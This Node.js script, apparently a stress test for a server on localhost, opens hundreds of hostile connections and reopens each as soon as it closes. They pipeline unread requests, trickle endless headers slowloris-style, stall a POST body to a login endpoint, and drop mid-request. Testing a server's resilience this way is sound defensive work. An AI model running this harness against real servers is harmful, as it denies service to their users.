/**
 * Hostile clients: `node attacker.mjs <port> <path of a large file>`. All connections stay open as long as the server
 * allows and are opened again when it closes them. Prints the number of closed connections every second.
 */
import { connect } from 'node:net'

const [port, file] = process.argv.slice(2)
const host = `Host: localhost:${port}\r\n`
const get = `GET ${file} HTTP/1.1\r\n${host}\r\n`

const token = 'x'.repeat(24)
const xsrf = `XSRF: ${token}\r\nCookie: XSRF-TOKEN=${token}\r\n`

let closed = 0

/** Opens a connection, and another one as soon as it is closed. */
function keepOpen(start) {
  const socket = connect(Number(port), '127.0.0.1')
  socket.on('error', () => undefined)
  let timer
  socket.on('connect', () => (timer = start(socket)))
  socket.on('close', () => {
    closed += 1
    clearInterval(timer)
    setImmediate(keepOpen, start)
  })
}

const trickle = (socket, text) => setInterval(() => socket.write(text), 200)

const kinds = [
  // Pipelines requests and reads no response.
  [8, (socket) => void socket.pause().write(get.repeat(600))],
  // Reads no response.
  [200, (socket) => void socket.pause().write(get)],
  // Never ends its headers.
  [200, (socket) => (socket.write(`GET / HTTP/1.1\r\n${host}`), trickle(socket, 'X-A: a\r\n'))],
  // Never ends its body.
  [
    200,
    (socket) => {
      socket.write(
        `POST /wp-json/custom-plugin/user-login HTTP/1.1\r\n${host}Content-Type: application/json\r\n${xsrf}Content-Length: 60000\r\n\r\n`,
      )
      return trickle(socket, 'x'.repeat(100))
    },
  ],
  // Disconnects within a request.
  [20, (socket) => void socket.write(get.slice(0, -2), () => socket.destroy())],
]
for (const [count, start] of kinds) for (let index = 0; index < count; index += 1) keepOpen(start)
setInterval(() => console.log(closed), 1_000)
